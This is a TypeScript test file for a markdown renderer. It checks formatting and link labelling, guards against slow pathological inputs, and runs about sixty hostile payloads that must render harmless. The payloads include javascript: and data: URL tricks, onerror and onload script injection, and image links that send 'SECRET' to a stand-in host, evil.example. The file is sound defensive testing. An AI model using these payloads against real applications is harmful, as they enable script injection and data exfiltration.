import { expect } from '@open-wc/testing';
import { render } from 'lit';
import { renderMarkdown } from './render.js';

const drawn = (markdown: string): HTMLElement => {
  const box = document.createElement('div');
  render(renderMarkdown(markdown), box);
  return box;
};
const html = (markdown: string) =>
  drawn(markdown)
    .innerHTML.replace(/\n\s+/g, '')
    .replace(/<!--.*?-->/g, '')
    .replace(/ dir="auto"/g, '');

describe('Markdown', () => {
  const cases: [string, string][] = [
    ['Ciao', '<p>Ciao</p>'],
    ['**forte** e *piano*', '<p><strong>forte</strong> e <em>piano</em></p>'],
    ['__forte__ e _piano_', '<p><strong>forte</strong> e <em>piano</em></p>'],
    ['nome_del_file e 2*3*4', '<p>nome_del_file e 2<em>3</em>4</p>'],
    ['`a < b`', '<p><code>a &lt; b</code></p>'],
    ['uno\ndue\n\ntre', '<p>uno<br>due</p><p>tre</p>'],
    ['- a\n- b', '<ul><li>a</li><li>b</li></ul>'],
    ['1. a\n2) b', '<ol start="1"><li>a</li><li>b</li></ol>'],
    ['3. c', '<ol start="3"><li>c</li></ol>'],
    ['Ecco:\n- a', '<p>Ecco:</p><ul><li>a</li></ul>'],
    ['## Orari\ndopo', '<p><strong>Orari</strong><br>dopo</p>'],
    ['```\nx = 1\n```', '<pre tabindex="0"><code>x = 1</code></pre>'],
    ['mai **chiuso', '<p>mai **chiuso</p>'],
    ['<b>no</b> &amp;', '<p>&lt;b&gt;no&lt;/b&gt; &amp;amp;</p>'],
  ];
  for (const [markdown, expected] of cases)
    it(JSON.stringify(markdown), () => expect(html(markdown)).to.equal(expected));

  it('opens links apart, and says where a label leads', () => {
    const link = drawn('[negozio](https://example.com/a)').querySelector('a')!;
    expect(link.href).to.equal('https://example.com/a');
    expect(link.target).to.equal('_blank');
    expect(link.rel).to.equal('noopener noreferrer nofollow ugc');
    expect(link.parentElement!.textContent!.trim()).to.equal('negozio (example.com)');
    expect(drawn('[example.com](https://example.com/)').textContent!.trim()).to.equal('example.com');
    expect(drawn('Vedi https://example.com/a).').querySelector('a')!.href).to.equal('https://example.com/a');
    expect(drawn('[scrivi](mailto:a@example.com)').querySelector('a')!.href).to.equal('mailto:a@example.com');
  });

  /** The 60 payloads that every place where a reply is drawn has to survive. */
  const hostile = [
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert`1`)',
    '[x](java\tscript:alert`1`)',
    '[x](java\nscript:alert`1`)',
    '[x](\u0001javascript:alert`1`)',
    '[x]( javascript:alert`1`)',
    '[x](javascript&colon;alert`1`)',
    '[x](&#106;avascript:alert`1`)',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](data:image/svg+xml,<svg/onload=alert`1`>)',
    '[x](vbscript:x)',
    '[x](file:///etc/passwd)',
    '[x](blob:https://evil.example/1)',
    '[x](filesystem:https://evil.example/1)',
    '[x](intent://evil#Intent;end)',
    '[x](tel:+39899)',
    '[x](//evil.example)',
    '[x](/\\evil.example)',
    '[x](https:evil.example)',
    '[x](https://example.com@evil.example/)',
    '[example.com](https://evil.example/)',
    '![x](https://evil.example/?q=SECRET)',
    '![x](https://evil.example/?q=SECRET "t")',
    '![x][ref]\n\n[ref]: https://evil.example/?q=SECRET',
    '[![x](https://evil.example/?q=SECRET)](https://evil.example)',
    '<img src=x onerror=alert(1)>',
    '<img/src="x"/onerror=alert(1)>',
    '<IMG SRC=javascript:alert(1)>',
    '<img src=https://evil.example/?q=SECRET>',
    '<picture><source srcset=https://evil.example/x></picture>',
    '<video poster=https://evil.example/x>',
    '<audio src=https://evil.example/x autoplay>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><use href=https://evil.example/x#y></svg>',
    '<math><mtext><script>alert(1)</script></mtext></math>',
    '<script>alert(1)</script>',
    '<script src=https://evil.example/x.js></script>',
    '<iframe src=https://evil.example>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data=https://evil.example>',
    '<embed src=https://evil.example>',
    '<link rel=stylesheet href=https://evil.example/x.css>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href=https://evil.example>',
    '<a href="javascript:alert(1)">x</a>',
    '<style>*{display:none}</style>',
    '<div style="position:fixed;inset:0">x</div>',
    '<form action=https://evil.example><input></form>',
    '<details open ontoggle=alert(1)>',
    '<template shadowrootmode=open><img src=x></template>',
    '<!--><img src=x onerror=alert(1)>-->',
    '`</code><img src=x>`',
    '```html\n<img src=x onerror=alert(1)>\n```',
    '**<img src=x>**',
    '- <img src=x>',
    '# <img src=x>',
    '[<img src=x>](https://example.com)',
    '[x](https://example.com/"onmouseover="alert(1))',
    '\u202egnp.exe \u2066[x](https://evil.example/)\u2069',
    '${alert(1)} {{constructor.constructor("alert(1)")()}} <?lit$1$?>',
  ];
  it('are at least sixty', () => expect(hostile.length).to.be.at.least(60));
  for (const markdown of hostile)
    it(`is harmless: ${markdown}`, () => {
      const box = drawn(markdown);
      const allowed = /^(P|BR|STRONG|EM|CODE|PRE|UL|OL|LI|A)$/;
      for (const element of box.querySelectorAll('*')) expect(element.tagName).to.match(allowed);
      expect(performance.getEntriesByType('resource').some(({ name }) => name.includes('evil'))).to.equal(
        false,
      );
      for (const element of box.querySelectorAll('*'))
        for (const name of element.getAttributeNames()) expect(name).not.to.match(/^on|^style$/);
      for (const link of box.querySelectorAll('a')) {
        expect(link.protocol).to.match(/^(https?|mailto):$/);
        // Wherever it leads is said beside it.
        expect(link.parentElement!.textContent).to.contain(link.host);
      }
    });

  for (const [name, text] of [
    ['a million brackets', '['.repeat(1_000_000)],
    ['twenty thousand brackets', '['.repeat(20_000)],
    ['stars', '*'.repeat(20_000)],
    ['unclosed bold', '**a '.repeat(5_000)],
    ['underscores', '_a'.repeat(10_000)],
    ['backticks', '`a'.repeat(10_000)],
    [
      'a list 140 levels deep',
      Array.from({ length: 140 }, (_, depth) => `${' '.repeat(depth)}- x`).join('\n'),
    ],
    [
      'a list 5,000 levels deep',
      Array.from({ length: 5000 }, (_, depth) => `${' '.repeat(depth)}- x`).join('\n'),
    ],
    ['half links', '[a]('.repeat(5_000)],
  ] as const)
    it(`is not slowed down by ${name}`, () => {
      const from = performance.now();
      renderMarkdown(text);
      expect(performance.now() - from).to.be.below(200);
    });
});
